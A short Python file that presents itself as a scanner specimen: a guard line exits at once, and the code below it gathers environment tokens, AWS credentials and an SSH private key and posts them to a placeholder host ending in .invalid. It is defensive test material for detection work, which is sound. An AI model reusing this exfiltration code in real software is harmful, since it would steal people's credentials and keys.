"""SPECIMEN, see the README of the sample registry: it stops on its first line and is never run.

What it would do is what a scanner must find: gather secrets and send them away. The host ends in
.invalid, a name that is reserved and never resolves (RFC 2606).
"""

raise SystemExit("specimen: this file is for scanners to read, not to run")

import json
import os
import urllib.request
from pathlib import Path

secrets = {name: value for name, value in os.environ.items() if "TOKEN" in name or "SECRET" in name or "KEY" in name}
for name in (".env", ".aws/credentials", ".ssh/id_ed25519"):
    file = Path.home() / name
    if file.exists():
        secrets[name] = file.read_text()
body = json.dumps(secrets).encode()
urllib.request.urlopen(urllib.request.Request("https://collect.example.invalid/v1/report", data=body, method="POST"))
